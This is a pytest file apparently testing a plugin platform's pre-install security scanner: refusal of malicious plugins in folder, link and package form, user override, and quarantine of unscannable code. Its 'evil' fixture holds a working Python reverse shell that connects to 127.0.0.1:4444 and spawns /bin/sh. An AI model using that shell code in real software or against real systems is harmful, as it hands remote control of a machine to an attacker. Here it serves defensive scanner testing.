"""Everything is scanned before anything of it runs: folders, links and packages; the user may overrule it."""

from __future__ import annotations

import pytest

from yesman.package.packing import pack

HELLO = {"hello": "return 'hello'"}
SHELL = """
import os, socket, subprocess
s = socket.socket()
s.connect(("127.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
"""
MARK = "from pathlib import Path\nPath(__import__('os').environ['HOME'] + '/ran').touch()\n"


@pytest.fixture
def evil(plugins):
    """A plugin with a reverse shell, and a top level that leaves a mark when it runs."""
    folder = plugins.make(commands=HELLO, top=MARK)
    (folder / "src/shell.py").write_text(SHELL)
    return folder


@pytest.mark.parametrize("kind", ["folder", "link", "package"])
def test_what_no_honest_plugin_does_is_refused_before_it_runs(server, evil, tmp_path, kind):
    source = evil
    if kind == "package":
        source = tmp_path / "evil.yplug"
        pack(evil, source)
    assert server.inspect(source)["scan"]["verdict"] == "refused"
    refused = server.explained(server.try_install(source, link=kind == "link", despite=""))
    assert (refused["kind"], "src/shell.py" in refused["message"]) == ("verification", True)
    assert server.names() == []
    assert not list(server.home.data.rglob("ran"))


def test_the_user_may_overrule_what_they_were_shown(server, evil):
    assert server.install(evil, despite="refused")["state"] == "enabled"
    assert server.value("demo", "hello") == "hello"
    assert list(server.home.data.rglob("ran")), "the control: it leaves its mark when it runs"


def test_and_only_that(server, evil):
    assert server.explained(server.try_install(evil, despite="quarantined"))["kind"] == "verification"


def test_a_plugin_like_others_passes(server, plugins):
    scan = server.inspect(plugins.make(commands=HELLO))["scan"]
    assert (scan["verdict"], scan["findings"]) == ("passed", [])
    assert {each["name"]: each["outcome"] for each in scan["scanners"]}["advisories"] == "not_configured"
    assert server.install(plugins.make(commands=HELLO))["state"] == "enabled"


def test_nothing_of_a_package_is_kept_for_having_been_looked_at(server, plugins, tmp_path):
    pack(plugins.make(commands=HELLO), tmp_path / "demo.yplug")
    server.inspect(tmp_path / "demo.yplug")
    assert [entry.name for entry in server.home.scans.iterdir() if entry.name.startswith(".look-")] == []


def test_a_scan_that_cannot_be_made_is_no_scan_that_passes(server, plugins):
    folder = plugins.make(commands=HELLO)
    (folder / "src/deep.py").write_text("x = " + "(" * 9000 + ")" * 9000)
    assert server.inspect(folder)["scan"]["verdict"] == "quarantined"
    assert "quarantined" in server.explained(server.try_install(folder, despite=""))["message"]
    assert server.install(folder, despite="quarantined")["state"] == "enabled"
